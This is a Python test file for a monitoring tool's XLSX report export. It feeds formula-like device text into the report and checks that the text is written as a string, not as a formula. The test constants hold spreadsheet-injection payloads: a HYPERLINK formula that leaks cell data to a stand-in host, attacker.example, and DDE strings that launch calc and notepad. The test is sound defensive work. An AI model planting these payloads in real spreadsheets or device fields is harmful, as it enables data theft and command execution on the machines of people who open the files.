"""Spreadsheet formula injection (issue 14, section 6): device-derived text that starts like a
formula (``= + - @``, tab, CR) is written to the XLSX report as text, never as a formula.

A run goes through patrol's ingest path with hostile values where devices put them: a volume
name (the failing object), an unreachable host's error message; ``patrol report --format xlsx``
writes the workbook; openpyxl and the raw sheet XML are read back."""

from __future__ import annotations

import zipfile
from datetime import timedelta
from pathlib import Path

from openpyxl import load_workbook

from patrol.checks import load_profiles
from patrol.models import Resource
from patrol.paths import PROFILES_DIR
from patrol.store import Store
from tests.conftest import PatrolCLI

from .conftest import LAB_FIXTURES, LAB_NOW, lab_case
from .ingest import ingest

RUN = "20261126-020000-cccc"
VOLUME = '=HYPERLINK("http://attacker.example/?leak="&A1,"/vol/data")'
ERROR = "@SUM(1+1)*cmd|' /C calc'!A0"
MORE = ("+cmd|' /C notepad'!A0", "-2+3", "\t=1+1")


def _hostile_cases() -> list:
    cases = []
    for host, snap, status, error in (lab_case(p) for p in sorted(LAB_FIXTURES.glob("*.json"))):
        if host.name == "nas1" and snap is not None:
            full = Resource(kind="volume", name=VOLUME, capacity=4e12, used=3.9e12)
            extra = [Resource(kind="volume", name=name, capacity=1e12, used=0.99e12) for name in MORE]
            snap = snap.model_copy(update={"resources": [full, *extra, *snap.resources[1:]]})
        if host.name == "branch-sw9":
            error = ERROR
        cases.append((host, snap, status, error))
    return cases


def test_formula_like_device_text_is_written_as_text(tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    with Store.open(f"sqlite:///{home / 'patrol.db'}") as store:
        ingest(store, RUN, _hostile_cases(), load_profiles([PROFILES_DIR]), LAB_NOW - timedelta(hours=1))
    out = tmp_path / "r.xlsx"
    result = PatrolCLI(home)("report", RUN, "--format", "xlsx", "-o", str(out))
    assert result.code == 0, result.output

    hostile = {VOLUME, ERROR, *MORE}
    seen: dict[str, list[tuple[str, bool]]] = {}
    for ws in load_workbook(out).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                text = str(cell.value or "")
                for value in hostile:
                    if value in text:
                        seen.setdefault(value, []).append((cell.data_type, bool(cell.quotePrefix), text))
    assert set(seen) == hostile, f"every hostile value reaches the workbook: {sorted(seen)}"
    for value, cells in seen.items():
        for data_type, quoted, text in cells:
            assert data_type == "s", (value, text)
            assert quoted or not text.startswith(("=", "+", "-", "@", "\t", "\r")), (value, text)
    assert any(text == VOLUME for _, _, text in seen[VOLUME]), "the object column holds the volume name as is"
    with zipfile.ZipFile(out) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets and not any(b"<f>" in book.read(n) or b"<f " in book.read(n) for n in sheets), "no formula"
